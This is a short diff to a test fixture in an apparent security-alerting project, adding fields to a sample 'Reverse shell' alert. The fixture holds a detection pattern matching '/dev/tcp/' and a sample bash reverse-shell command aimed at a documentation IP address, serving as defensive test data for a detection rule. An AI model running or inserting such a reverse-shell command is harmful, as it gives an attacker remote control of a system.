@@ -14,9 +14,9 @@ from tocsin.model.rule import Rule
 
 START = 1_790_000_000_000
 ALERT = Alert(
-    "0123456789abcdef01234567", "default", "r-1", "Reverse shell", "bash spoke to 198.51.100.23", "critical", [],
+    "0123456789abcdef01234567", "default", "r-1", "Reverse shell", "bash spoke to 198.51.100.23", "critical", 1, [],
     sample_intrusion.ORIGIN, sample_intrusion.HOST, {}, START, START, START, START + 5000, 3, "open", None, None, None,
-    None, START, START,
+    None, None, START, START,
 )  # fmt: skip
 MET = MetTerm("process.cmd_line", "CommandLine|contains: /dev/tcp/", "bash -i >& /dev/tcp/198.51.100.23/4444")
 
